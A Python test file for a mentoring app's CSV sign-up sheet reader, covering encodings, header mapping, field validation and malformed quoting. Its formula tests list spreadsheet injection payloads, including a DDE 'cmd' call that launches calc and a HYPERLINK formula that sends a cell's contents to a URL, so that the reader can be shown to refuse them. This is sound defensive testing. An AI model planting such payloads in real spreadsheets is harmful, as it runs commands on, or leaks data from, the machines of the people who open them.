"""What a sign-up sheet may look like, and what its sender is told: each test's sheet stands in the test."""

import pytest

from tandem_profiles.domain.roles import Role
from tandem_profiles.domain.sheet_mapping import RoleNotMapped, SheetMapping
from tandem_profiles.domain.sheet_text import (
    SheetEncodingUnknown,
    SheetIsWorkbook,
    SheetTooLarge,
    SheetUnreadable,
)
from tandem_profiles.domain.sign_up_sheets import RowFault, Sheet, read_sheet

MAPPING = SheetMapping.from_document(
    {
        "version": 1,
        "levels": ["Junior", {"name": "Senior", "also": ["Sr"]}, "Lead"],
        "mentor": {
            "columns": [
                {"column": "first name", "field": "given_name", "kind": "text", "required": True, "longest": 50},
                {"column": "last name", "field": "family_name", "kind": "text", "required": True, "longest": 50},
                {"column": "email", "field": "email", "kind": "email", "required": True},
                {"column": "also mentee", "field": "takes_other_role", "kind": "yes_no"},
                {"column": "grade", "field": "level", "kind": "one_of", "required": True},
                {"column": "phone", "field": "job_title", "kind": "text"},
                {"column": "places", "field": "mentor_places", "kind": "whole_number", "lowest": 1, "highest": 5},
                {"column": "zone", "field": "time_zone", "kind": "text"},
                {"column": "speaks", "field": "languages", "kind": "list"},
                {"column": "identities", "field": "confidential.identities", "kind": "list", "longest_item": 20},
                {"column": "about", "field": "biography", "kind": "text", "several_lines": True},
            ],
            "constants": {"mentor_places": 2, "time_zone": "Europe/London", "languages": ["en"]},
        },
    }
)
HEADER = "first name,last name,email,also mentee,grade,phone,places,zone,speaks,identities,about"
ADA = "Ada,Lovelace,ada@example.org,no,Senior,,,,,,"
BEN = "Ben,Okri,ben@example.org,no,Lead,,,,,,"


def sheet(*rows: str, header: str = HEADER) -> Sheet:
    """What is found in a sheet of these lines."""
    return read_sheet("\r\n".join((header, *rows, "")).encode(), MAPPING, Role.MENTOR)


def only_fault(found: Sheet) -> RowFault:
    """The one fault of a sheet that has one."""
    assert found.fault_count == 1, found.faults
    return found.faults[0]


class TestAGoodSheet:
    def test_says_who_takes_part_as_what_and_with_which_answers(self) -> None:
        found = sheet(
            "Ada,Lovelace,Ada@Example.org,yes,sr,+44 20 7946 0018,3,Asia/Tokyo,"
            '"ja, en","Carer, Deaf","I like\n“numbers”"'
        )
        assert found.faults == ()
        (ada,) = found.sign_ups
        assert (ada.row, ada.given_name, ada.family_name) == (2, "Ada", "Lovelace")
        assert (ada.email, ada.email_key) == ("Ada@Example.org", "ada@example.org")
        assert (ada.level, ada.level_name) == (2, "Senior")
        assert ada.job_title == "+44 20 7946 0018"
        assert ada.roles == (Role.MENTOR, Role.MENTEE)
        assert (ada.mentor_places, ada.wanted_mentors) == (3, 1)
        assert (ada.time_zone, ada.languages) == ("Asia/Tokyo", ("ja", "en"))
        assert ada.confidential_answers == {"identities": ("Carer", "Deaf")}
        assert ada.biography == "I like\n“numbers”"

    def test_leaves_to_the_constants_what_a_person_left_blank(self) -> None:
        (ada,) = sheet(ADA).sign_ups
        assert (ada.mentor_places, ada.time_zone, ada.languages) == (2, "Europe/London", ("en",))
        assert (ada.job_title, ada.unit, ada.biography) == (None, None, None)
        assert ada.confidential_answers == {}

    def test_gives_a_mentor_who_is_no_mentee_no_wish_for_a_mentor(self) -> None:
        (ada,) = sheet(ADA).sign_ups
        assert (ada.roles, ada.wanted_mentors) == ((Role.MENTOR,), 0)

    def test_may_have_its_columns_in_any_order_and_any_case_and_others_besides(self) -> None:
        columns = HEADER.split(",")
        cells = dict(zip(columns, ADA.split(","), strict=True)) | {"Shoe size": "40"}
        turned = [*reversed(columns), "Shoe size"]
        found = sheet(",".join(cells[column] for column in turned), header=",".join(turned).upper())
        assert (found.sign_ups[0].given_name, found.ignored_columns) == ("Ada", ("SHOE SIZE",))

    @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
    def test_may_be_delimited_by_what_the_spreadsheet_of_the_country_writes(self, delimiter: str) -> None:
        found = read_sheet(f"{HEADER}\n{ADA}\n".replace(",", delimiter).encode(), MAPPING, Role.MENTOR)
        assert (found.delimiter, len(found.sign_ups), found.faults) == (delimiter, 1, ())

    def test_may_declare_its_delimiter_in_a_line_that_spreadsheets_hide(self) -> None:
        found = read_sheet(f"sep=;\r\n{HEADER}\r\n{ADA}\r\n".replace(",", ";").encode(), MAPPING, Role.MENTOR)
        assert [person.row for person in found.sign_ups] == [2]

    def test_may_have_blank_rows_at_its_end(self) -> None:
        found = sheet(ADA, "", ",,,,,,,,,,", " , ")
        assert (len(found.sign_ups), found.faults, found.row_count) == (1, (), 1)

    def test_may_leave_out_blank_cells_at_the_end_of_a_row_or_add_some(self) -> None:
        found = sheet("Ada,Lovelace,ada@example.org,no,Senior", BEN + ",,,")
        assert (len(found.sign_ups), found.faults) == (2, ())

    def test_numbers_its_rows_as_a_spreadsheet_does_however_many_lines_a_cell_has(self) -> None:
        found = sheet('Ada,Lovelace,ada@example.org,no,Senior,,,,,,"one\ntwo\r\n\r\nthree"', BEN)
        assert [person.row for person in found.sign_ups] == [2, 3]
        assert found.sign_ups[0].biography == "one\ntwo\n\nthree"

    def test_brings_names_on_one_line_without_blanks_around_and_accents_in_one_form(self) -> None:
        found = sheet('\u200b Zoe\u0308 ,"van\n  Dijk",zoe@example.org\u00a0,no,Senior')
        assert (found.sign_ups[0].given_name, found.sign_ups[0].family_name) == ("Zoë", "van Dijk")
        assert found.sign_ups[0].email == "zoe@example.org"


class TestEncodings:
    @pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16"])
    def test_a_byte_order_mark_is_understood_and_not_part_of_the_first_heading(self, codec: str) -> None:
        found = read_sheet(f"{HEADER}\n{ADA.replace('Ada', 'Zoë')}\n".encode(codec), MAPPING, Role.MENTOR)
        assert (found.sign_ups[0].given_name, found.faults) == ("Zoë", ())

    def test_latin_1_unsaid_is_refused_with_row_column_and_byte(self) -> None:
        content = f"{HEADER}\n{ADA}\nZoë,Díaz,zoe@example.org,no,Lead\n".encode("latin-1")
        found = read_sheet(content, MAPPING, Role.MENTOR)
        assert [(fault.row, fault.column) for fault in found.faults] == [(3, "first name"), (3, "last name")]
        assert found.faults[0].reason == (
            "holds the byte 0xEB, which is not utf-8 (in Windows-1252 it is “ë”): "
            "save the sheet as “CSV UTF-8”, or say its encoding"
        )
        assert [person.given_name for person in found.sign_ups] == ["Ada"]

    @pytest.mark.parametrize("said", ["iso-8859-1", "Windows-1252", "latin1", "cp1252"])
    def test_latin_1_is_read_where_the_sender_says_so(self, said: str) -> None:
        content = f"{HEADER}\nZoë,O’Díaz,zoe@example.org,no,Lead\n".encode("cp1252")
        (zoe,) = read_sheet(content, MAPPING, Role.MENTOR, encoding=said).sign_ups
        assert (zoe.given_name, zoe.family_name) == ("Zoë", "O’Díaz")

    def test_an_encoding_that_is_not_read_here_is_refused_by_name(self) -> None:
        with pytest.raises(SheetEncodingUnknown, match="shift_jis"):
            read_sheet(b"", MAPPING, Role.MENTOR, encoding="shift_jis")

    def test_utf_16_that_is_cut_off_is_refused(self) -> None:
        with pytest.raises(SheetUnreadable):
            read_sheet(HEADER.encode("utf-16")[:-1], MAPPING, Role.MENTOR)

    def test_a_heading_that_is_not_utf_8_is_named(self) -> None:
        found = read_sheet(f"{HEADER},größe\n{ADA}\n".encode("latin-1"), MAPPING, Role.MENTOR)
        fault = only_fault(found)
        assert (fault.row, fault.column) == (1, "gr\\xF6\\xDFe")
        # What is answered is text, whatever was sent.
        assert fault.reason.encode()


class TestWhatIsNoSheet:
    def test_twenty_megabytes_and_more_are_refused_unread(self) -> None:
        with pytest.raises(SheetTooLarge, match="20,000,001 bytes; at most 20,000,000") as refused:
            read_sheet(b"a" * 20_000_001, MAPPING, Role.MENTOR)
        assert refused.value.details == {"size_bytes": 20_000_001, "limit_bytes": 20_000_000}

    def test_the_limit_can_be_set(self) -> None:
        with pytest.raises(SheetTooLarge):
            read_sheet(b"12345", MAPPING, Role.MENTOR, size_limit_bytes=4)

    @pytest.mark.parametrize("beginning", [b"PK\x03\x04\x14\x00", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"])
    def test_a_workbook_is_refused_with_what_to_do_instead(self, beginning: bytes) -> None:
        with pytest.raises(SheetIsWorkbook, match="CSV UTF-8"):
            read_sheet(beginning + bytes(100), MAPPING, Role.MENTOR)

    def test_a_role_that_the_mapping_leaves_out_is_refused(self) -> None:
        with pytest.raises(RoleNotMapped, match="mentee"):
            read_sheet(b"", MAPPING, Role.MENTEE)

    @pytest.mark.parametrize("content", [b"", b"\n\n", b"\xef\xbb\xbf", b" , ,\n"])
    def test_a_sheet_without_a_header_is_told_so(self, content: bytes) -> None:
        fault = only_fault(read_sheet(content, MAPPING, Role.MENTOR))
        assert (fault.row, fault.reason) == (1, "is blank: the first row must hold the names of the columns")

    def test_a_sheet_with_only_a_header_is_told_so(self) -> None:
        assert only_fault(sheet()) == RowFault(2, None, "is missing: the sheet has a header and nobody below it")

    def test_a_sheet_of_something_else_has_its_header_refused_and_its_rows_left_alone(self) -> None:
        found = sheet("1,2", "3,4", header="weight,height")
        assert {fault.row for fault in found.faults} == {1}
        assert found.sign_ups == ()


class TestTheHeader:
    def test_a_missing_column_is_named_with_those_that_are_there(self) -> None:
        found = sheet("Ada,Lovelace,ada@example.org,no,,,,,,", header=HEADER.replace(",grade", ""))
        fault = only_fault(found)
        assert (fault.row, fault.column) == (1, "grade")
        assert fault.reason.startswith("is missing; the sheet has the columns “first name”, “last name”, “email”")

    def test_with_a_missing_column_nobody_is_good_and_the_other_columns_are_still_judged(self) -> None:
        found = sheet(
            "Ada,Lovelace,ada@example.org,no",
            "Ben,Okri,ben,no",
            header="first name,last name,email,also mentee",
        )
        assert found.sign_ups == ()
        assert [(fault.row, fault.column) for fault in found.faults if fault.row > 1] == [(3, "email")]
        assert found.bad_row_count == 2

    def test_a_column_that_is_there_twice_is_named_with_both_places(self) -> None:
        fault = only_fault(sheet(ADA + ",x", header=HEADER + ",Email"))
        assert fault == RowFault(1, "email", "is there 2 times, in the columns C and L")


class TestBadRows:
    @pytest.mark.parametrize(
        ("cells", "column", "reason"),
        [
            (",Lovelace,ada@example.org,no,Lead", "first name", "is blank"),
            ("Ada,  ,ada@example.org,no,Lead", "last name", "is blank"),
            ("Ada,Lovelace,,no,Lead", "email", "is blank"),
            ("Ada,Lovelace,ada@example.org,no,", "grade", "is blank"),
            ("Ada,Lovelace,ada@example.org,no,Boss", "grade", "“Boss” is not one of Junior, Senior, Lead"),
            ("Ada,Lovelace,ada@example.org,perhaps,Lead", "also mentee", "“perhaps” is neither yes nor no"),
            (
                "Ada,Lovelace,ada.example.org,no,Lead",
                "email",
                "“ada.example.org” is not an e-mail address: it has no @",
            ),
            ("Ada,Lovelace,a@b@c.org,no,Lead", "email", "“a@b@c.org” is not an e-mail address: it has more than one @"),
            (
                "Ada,Lovelace,Ada <ada@example.org>,no,Lead",
                "email",
                "“Ada <ada@example.org>” is not an e-mail address: one address is wanted, with nothing around it",
            ),
            (
                "Ada,Lovelace,ada@localhost,no,Lead",
                "email",
                "“ada@localhost” is not an e-mail address: the part after the @ must be a domain such as example.org",
            ),
            (
                "Ada,Lovelace,a..b@example.org,no,Lead",
                "email",
                "“a..b@example.org” is not an e-mail address: the part before the @ is missing or malformed",
            ),
            ("Ada,Lovelace,ada@example.org,no,Lead,,two", "places", "“two” is not a whole number"),
            ("Ada,Lovelace,ada@example.org,no,Lead,,1.5", "places", "“1.5” is not a whole number"),
            ("Ada,Lovelace,ada@example.org,no,Lead,,-1", "places", "“-1” is not from 1 to 5"),
            ("Ada,Lovelace,ada@example.org,no,Lead,,6", "places", "“6” is not from 1 to 5"),
            (
                "Ada,Lovelace,ada@example.org,no,Lead,,,somewhere!",
                "zone",
                "“somewhere!” is not a time zone such as Europe/London",
            ),
            (
                "Ada,Lovelace,ada@example.org,no,Lead,,,,English",
                "speaks",
                "“English” is not a list of language tags such as en or pt-BR",
            ),
            (
                f"{'A' * 51},Lovelace,ada@example.org,no,Lead",
                "first name",
                f"“{'A' * 40}…” is 51 characters long; at most 50 are taken",
            ),
            (
                f"Ada,Lovelace,ada@example.org,no,Lead,,,,,,{'x' * 20_001}",
                "about",
                "is 20,001 characters long; at most 20,000 are taken",
            ),
            (
                "Ada,Love\0lace,ada@example.org,no,Lead",
                "last name",
                "holds a NUL character: the file is not CSV, or in an encoding that has to be said (such as UTF-16)",
            ),
            ("Ada,Love\x07lace,ada@example.org,no,Lead", "last name", "holds the control character U+0007"),
        ],
    )
    def test_a_cell_is_refused_with_row_column_and_reason(self, cells: str, column: str, reason: str) -> None:
        found = sheet(BEN, cells)
        assert only_fault(found) == RowFault(3, column, reason)
        assert [person.given_name for person in found.sign_ups] == ["Ben"]

    def test_a_time_zone_that_does_not_exist_is_refused_where_the_zones_are_known(self) -> None:
        content = f"{HEADER}\nAda,Lovelace,ada@example.org,no,Lead,,,Europe/Lodnon\n".encode()
        zones = {"Europe/London"}
        fault = only_fault(read_sheet(content, MAPPING, Role.MENTOR, time_zones=zones))
        assert fault == RowFault(2, "zone", "“Europe/Lodnon” is not a time zone such as Europe/London")

    def test_every_fault_of_every_row_is_named_in_one_go(self) -> None:
        found = sheet(",,nobody,maybe,Boss", ADA, "Ben,,ben@example.org,no,Chief")
        assert [(fault.row, fault.column) for fault in found.faults] == [
            (2, "first name"),
            (2, "last name"),
            (2, "email"),
            (2, "also mentee"),
            (2, "grade"),
            (4, "last name"),
            (4, "grade"),
        ]
        assert (found.row_count, found.bad_row_count) == (3, 2)

    def test_an_address_that_comes_twice_names_both_rows_whatever_its_case(self) -> None:
        found = sheet(ADA, BEN, "Adah,Byron,ADA@example.ORG,no,Lead")
        assert only_fault(found) == RowFault(4, "email", "“ADA@example.ORG” is in row 2 already")
        assert [person.row for person in found.sign_ups] == [2, 3]

    def test_a_blank_row_between_people_is_named(self) -> None:
        found = sheet(ADA, "", ",,,", BEN)
        assert found.faults == (RowFault(3, None, "is blank"), RowFault(4, None, "is blank"))
        assert [person.row for person in found.sign_ups] == [2, 5]

    def test_a_row_with_too_many_cells_is_named_once(self) -> None:
        found = sheet("Ada,Lovelace,ada@example.org,no,Lead,,,,,,I like tea, cake, and people")
        assert only_fault(found) == RowFault(
            2, None, "has 13 cells, the header has 11: perhaps a comma isn't in quotes"
        )

    def test_confidential_answers_are_not_repeated_in_the_fault_that_refuses_them(self) -> None:
        fault = only_fault(sheet("Ada,Lovelace,ada@example.org,no,Lead,,,,,a very private matter of mine,"))
        assert fault == RowFault(2, "identities", "this answer holds an answer of more than 20 characters")

    def test_faults_beyond_those_shown_are_counted(self) -> None:
        content = "\n".join([HEADER, *(["Ada,Lovelace,ada,no,Lead"] * 1_500), "", ADA]).encode()
        found = read_sheet(content, MAPPING, Role.MENTOR)
        assert (len(found.faults), found.fault_count, found.bad_row_count) == (1_000, 1_501, 1_501)


class TestFormulas:
    """A cell that begins like a formula is run by the spreadsheet in which somebody opens an export."""

    @pytest.mark.parametrize(
        "cell",
        [
            "=1+1",
            '"=HYPERLINK(""http://example.org?x=""&A1,""Click"")"',
            "@SUM(A1)",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            '"\t=1+1"',
            '"\tAda"',
            '"\r=1+1"',
            '"\n=1+1"',
            " =1+1",
            "＝1+1",
        ],
    )
    def test_a_formula_is_refused_wherever_it_stands(self, cell: str) -> None:
        fault = only_fault(sheet(f"Ada,Lovelace,ada@example.org,no,Lead,{cell}"))
        assert (fault.row, fault.column) == (2, "phone")
        assert "would be run as a formula" in fault.reason

    @pytest.mark.parametrize(
        "cell", ["-5", "-3.5 %", "+44 20 7946 0018", "+1 (555) 010-9999", "-", "--", "1+1", "a=b", "a@b"]
    )
    def test_a_number_a_telephone_number_and_a_dash_are_no_formulas(self, cell: str) -> None:
        found = sheet(f"Ada,Lovelace,ada@example.org,no,Lead,{cell}")
        assert (found.faults, found.sign_ups[0].job_title) == ((), cell)


class TestBrokenQuotes:
    REASON = 'has a quote (") that is opened and not closed, or closed before the cell ends'

    def test_a_quote_that_is_never_closed_is_named_and_the_rows_below_are_read(self) -> None:
        found = sheet(ADA, 'Cy,"Twombly,cy@example.org,no,Lead', BEN, "Dee,Dee,dee,no,Lead")
        assert found.faults[0] == RowFault(3, "last name", self.REASON)
        assert [(fault.row, fault.column) for fault in found.faults[1:]] == [(5, "email")]
        assert [person.row for person in found.sign_ups] == [2, 4]

    def test_a_quote_that_closes_too_early_is_named(self) -> None:
        found = sheet('Ada,"The" Countess,ada@example.org,no,Lead', BEN)
        assert only_fault(found) == RowFault(2, "last name", self.REASON)
        assert [person.row for person in found.sign_ups] == [3]

    def test_a_quote_in_the_middle_of_a_cell_is_text(self) -> None:
        assert sheet('Ada "Countess",Lovelace,ada@example.org,no,Lead').sign_ups[0].given_name == 'Ada "Countess"'

    def test_a_cell_of_a_size_that_nobody_wrote_is_named(self) -> None:
        found = sheet(f"Ada,{'x' * 200_000},ada@example.org,no,Lead", BEN)
        assert only_fault(found) == RowFault(2, "last name", "is longer than the 20,000 characters that are taken")
        assert [person.row for person in found.sign_ups] == [3]

    def test_a_sheet_made_of_broken_quotes_is_given_up_in_good_time(self) -> None:
        # Each of these lines opens a quote that runs to the end of the sheet: read naively, this takes hours.
        found = sheet(*['x",",y'] * 200_000)
        assert found.faults[-1].reason.endswith("so many rows do that the rest of the sheet was not read")
        assert found.sign_ups == ()

    def test_a_broken_header_is_named(self) -> None:
        fault = only_fault(sheet(ADA, header='first name,"last name,email'))
        assert (fault.row, fault.reason) == (1, self.REASON)


def test_a_sheet_of_twenty_thousand_people_is_read_whole() -> None:
    rows = (
        f'Given {number},Family,person{number}@example.org,no,Senior,,3,Europe/Paris,"fr, en","Carer",{"words " * 30}'
        for number in range(20_000)
    )
    content = "\n".join((HEADER, *rows)).encode()
    found = read_sheet(content, MAPPING, Role.MENTOR)
    assert len(found.sign_ups) == 20_000
